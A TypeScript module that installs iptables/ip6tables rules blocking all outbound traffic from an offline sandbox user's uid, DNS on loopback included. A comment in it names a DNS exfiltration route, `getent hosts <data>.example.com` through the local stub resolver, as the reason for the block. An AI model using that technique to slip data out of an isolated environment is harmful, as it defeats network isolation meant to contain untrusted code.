import type { SandboxAccount } from './isolation-uid.js';
import { asRoot, type Privilege } from './sandbox-commands.js';
import { findProgram } from './trusted-path.js';

/**
 * What the offline sandbox user may not send, each as the match part of an `OUTPUT` rule: everything
 * that leaves the machine, and DNS on loopback. Loopback is otherwise open (a database the workflow
 * started on 127.0.0.1 stays reachable), but whatever answers port 53 there is a resolver that
 * forwards the question to the internet — systemd-resolved's stub on 127.0.0.53 on every Ubuntu
 * runner — so `getent hosts <data>.example.com` carried data out of a `network = "none"` check. No
 * unprivileged process can listen on port 53 (below 1024), so no check's own server is refused.
 */
const BLOCKED: readonly (readonly string[])[] = [
  ['!', '-o', 'lo'],
  ['-o', 'lo', '-p', 'udp', '--dport', '53'],
  ['-o', 'lo', '-p', 'tcp', '--dport', '53'],
];

/**
 * Installs (idempotently) the egress block for the offline sandbox user: every outbound packet of
 * that uid except on loopback is rejected, and DNS on loopback too, for IPv4 and IPv6. The rules are
 * keyed to the dedicated uid, so they are left in place (they affect nothing else) and re-checked on
 * every run.
 */
export async function ensureEgressBlock(
  account: SandboxAccount,
  privilege: Privilege,
  env: Record<string, string>,
): Promise<string | null> {
  // Every rule of both tools is checked (and installed) side by side: the run waits for one round.
  const failures = await Promise.all(
    (
      [
        ['iptables', 'icmp-admin-prohibited'],
        ['ip6tables', 'icmp6-adm-prohibited'],
      ] as const
    ).flatMap(([tool, reason]) =>
      BLOCKED.map((match) => ensureRule(tool, match, reason, account, privilege, env)),
    ),
  );
  return failures.find((failure) => failure !== null) ?? null;
}

async function ensureRule(
  tool: 'iptables' | 'ip6tables',
  match: readonly string[],
  reason: string,
  account: SandboxAccount,
  privilege: Privilege,
  env: Record<string, string>,
): Promise<string | null> {
  // "Administratively prohibited": a blocked connect fails with EHOSTUNREACH, unlike a refused port.
  const rule = [
    'OUTPUT',
    '-m',
    'owner',
    '--uid-owner',
    String(account.uid),
    ...match,
    '-j',
    'REJECT',
    '--reject-with',
    reason,
  ];
  // As root the tool is run from this very PATH: when it is not there, nothing needs starting to
  // know it (under sudo its secure_path may still find it).
  if (privilege === 'root' && findProgram(tool, env.PATH ?? '') === null) return `${tool}: not installed`;
  const present = await asRoot(privilege, tool, ['-w', '5', '-C', ...rule], env);
  if (present.ok) return null;
  const added = await asRoot(privilege, tool, ['-w', '5', '-I', ...rule], env);
  if (!added.ok) return `${tool}: ${added.stderr.trim() || `exit ${added.code}`}`;
  return null;
}
